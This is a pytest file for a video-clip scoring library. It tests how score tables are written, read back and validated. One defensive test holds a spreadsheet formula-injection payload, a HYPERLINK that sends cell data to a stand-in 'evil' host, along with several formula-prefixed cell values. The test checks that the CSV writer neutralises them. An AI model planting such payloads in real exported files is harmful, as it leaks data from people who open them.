"""The table says what the clips say, survives both formats, and a table that cannot be right is refused."""

from __future__ import annotations

import csv
import os
from dataclasses import replace
from pathlib import Path

import pytest

from reelops.errors import InputError
from reelops.metrics.catalogue import METRICS
from reelops.scoring.contracts import check_table, validate
from reelops.scoring.plots import summary, write_plots
from reelops.scoring.scored_clip import ScoredClip
from reelops.scoring.tables import COLUMNS, frame_of, read_table, row_of, write_csv, write_parquet

pandas = pytest.importorskip("pandas", reason='pandas comes with pip install "reelops[data]"')
pytest.importorskip("pandera", reason='pandera comes with pip install "reelops[data]"')


@pytest.fixture
def odd(scored: list[ScoredClip]) -> list[ScoredClip]:
    """The clips under names that have broken tables before."""
    names = ("NA", 'a "quoted", name;\nof two lines.mp4', "=1+1 ✓ 変焦.mp4")
    return [replace(clip, path=Path(name)) for clip, name in zip(scored, names, strict=True)]


@pytest.mark.parametrize("write", [write_csv, write_parquet])
def test_what_is_written_is_read_back_to_the_last_bit(write, odd, tmp_path):
    path = tmp_path / f"table.{'csv' if write is write_csv else 'parquet'}"
    write(odd, path)
    frame = read_table(path)
    validate(frame, "it")
    assert list(frame.columns) == list(COLUMNS)
    for clip, (_, read) in zip(odd, frame.iterrows(), strict=True):
        wanted = row_of(clip)
        got = {name: None if pandas.isna(read[name]) else read[name] for name in COLUMNS}
        assert got == wanted


def test_what_a_stranger_wrote_into_a_clip_is_no_formula_in_the_table(scored, tmp_path):
    evil = '=HYPERLINK("http://evil/?"&A2,"open")'
    clip = replace(scored[2], path=Path("@evil.mp4"), origin=replace(scored[2].origin, prompt=evil), notes=("-1+1\rx",))
    write_csv([clip], path := tmp_path / "table.csv")
    with path.open(newline="") as file:
        (cells,) = csv.DictReader(file)
    assert [cells[name][:2] for name in ("clip", "prompt", "notes")] == ["'@", "'=", "'-"]
    (read,) = (row for _, row in read_table(path).iterrows())
    assert [read["clip"], read["prompt"], read["notes"]] == ["@evil.mp4", evil, "-1+1\rx"]


def test_a_row_holds_the_clips_scores_and_verdict(scored):
    zoom = row_of(scored[2])
    assert zoom["sharpness"] == scored[2].scores["sharpness"]
    assert (zoom["num_frames"], zoom["fps"], zoom["asked_move"]) == (5, 8.0, "pan_left")
    assert row_of(scored[1])["answer"] == "reject" and "frozen" in row_of(scored[1])["reasons"]
    broken = row_of(scored[0])
    assert broken["answer"] == "unreadable" and broken["error"] and broken["sharpness"] is None


@pytest.mark.parametrize(
    ("column", "value", "named"),
    [
        ("brightness", 1.7, "brightness"),
        ("answer", "maybe", "answer"),
        ("sha256", "abc", "sha256"),
        ("width", 0, "width"),
        ("error", "but it was scored", "a clip has an error if"),
        ("reasons", None, "a clip has reasons if"),
    ],
)
def test_a_table_that_cannot_be_right_is_refused_and_says_where(column, value, named, scored, tmp_path):
    frame = frame_of(scored)
    frame.loc[1, column] = value
    frame.to_csv(tmp_path / "table.csv", index=False)
    with pytest.raises(InputError, match="breaks the contract") as refused:
        validate(read_table(tmp_path / "table.csv"), "it")
    assert named in str(refused.value)
    if column == "brightness":
        assert "row 2" in str(refused.value) and "frozen.mp4" in str(refused.value)


def test_a_table_with_a_column_too_few_is_refused(scored, tmp_path):
    frame_of(scored).drop(columns="flicker").to_csv(tmp_path / "table.csv", index=False)
    with pytest.raises(InputError, match="flicker"):
        validate(read_table(tmp_path / "table.csv"), "it")


def test_what_is_no_table_is_said_to_be_none(tmp_path):
    (tmp_path / "table.parquet").write_bytes(b"no table")
    with pytest.raises(InputError, match="is no table of scores"):
        read_table(tmp_path / "table.parquet")


def test_the_table_of_real_clips_keeps_the_contract(scored):
    assert check_table(scored) == []


def test_plots_have_means_and_a_row_a_clip(scored, tmp_path):
    written = write_plots(scored, tmp_path)
    assert [path.name for path in written] == ["metrics.json", "clips.csv", "clips.json"]
    told = summary(scored)
    values = [clip.scores["sharpness"] for clip in scored if clip.scores]
    assert told["metrics"]["sharpness"]["mean"] == pytest.approx(sum(values) / 2)
    assert told["answers"]["unreadable"] == 1 and set(told["metrics"]) <= set(METRICS)


@pytest.mark.parametrize("write", [write_csv, write_parquet])
def test_names_and_prompts_that_are_no_unicode_are_spelt_out_in_tables(write, scored, tmp_path):
    origin = replace(scored[2].origin, picture=Path(os.fsdecode(b"caf\xe9.png")), prompt="a cat \ud83d")
    odd = replace(scored[2], path=Path(os.fsdecode(b"caf\xe9.mp4")), origin=origin, notes=("of \udce9",))
    broken = replace(scored[0], path=Path("\udce9.mp4"), error="\udce9.mp4 is no video")
    path = tmp_path / f"table.{'csv' if write is write_csv else 'parquet'}"
    assert check_table([odd, broken]) == []
    write([odd, broken], path)
    frame = read_table(path)
    assert list(frame["clip"]) == [r"caf\udce9.mp4", r"\udce9.mp4"]
    assert (frame["picture"][0], frame["prompt"][0]) == (r"caf\udce9.png", r"a cat \ud83d")
